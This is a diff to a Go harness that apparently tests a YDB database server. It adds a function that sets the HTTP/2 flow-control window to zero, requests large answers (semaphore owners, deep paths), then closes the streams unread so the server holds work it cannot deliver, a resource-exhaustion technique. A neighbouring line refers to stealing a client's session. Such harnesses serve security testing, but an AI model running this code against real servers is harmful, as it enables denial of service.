@@ -10,6 +10,7 @@ import (
 	"sync"
 	"time"
 
+	"golang.org/x/net/http2"
 	"google.golang.org/grpc"
 	"google.golang.org/grpc/metadata"
 	"google.golang.org/protobuf/proto"
@@ -175,6 +176,47 @@ func notReading(ctx context.Context, address string) {
 		}
 		_ = a.Close()
 	}
+}
+
+// notReadingEnds opens streams that ask for the large semaphore, and calls with long answers, closes them on this side and reads
+// nothing of what comes: they are over for the server, and their answers are not.
+func notReadingEnds(ctx context.Context, address string) {
+	message := func(m proto.Message) []byte {
+		b, _ := proto.Marshal(m)
+		return prefixed(0, len(b), b)
+	}
+	start := message(&Ydb_Coordination.SessionRequest{Request: &Ydb_Coordination.SessionRequest_SessionStart_{
+		SessionStart: &raw.Start{Path: malNode, TimeoutMillis: 30_000}}})
+	describe := message(&Ydb_Coordination.SessionRequest{Request: &Ydb_Coordination.SessionRequest_DescribeSemaphore_{
+		DescribeSemaphore: &Ydb_Coordination.SessionRequest_DescribeSemaphore{ReqId: 1, Name: "large", IncludeOwners: true}}})
+	path := message(&Ydb_Scheme.DescribePathRequest{Path: deepPath + strings.Repeat("/d", 28)})
+	onConnections(true, func(a *attacker) error {
+		if a.stream == 0 {
+			if err := a.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
+				return err
+			}
+		}
+		err := a.call("/Ydb.Scheme.V1.SchemeService/DescribePath", userToken, "x-ydb-database", "/local")
+		if err == nil {
+			err = a.framer.WriteData(a.stream, true, path)
+		}
+		if err == nil {
+			err = a.call(sessionMethod, userToken, "x-ydb-database", "/local")
+		}
+		for _, b := range [][]byte{start, describe} {
+			if err == nil {
+				err = a.say(b)
+			}
+		}
+		select { // so that the stream has been answered
+		case <-ctx.Done():
+		case <-time.After(5 * time.Millisecond):
+		}
+		if err == nil {
+			err = a.framer.WriteData(a.stream, true, nil)
+		}
+		return err
+	})(ctx, address)
 }
 
 // theft takes over the good client's session, which has no protection key, and stops it.
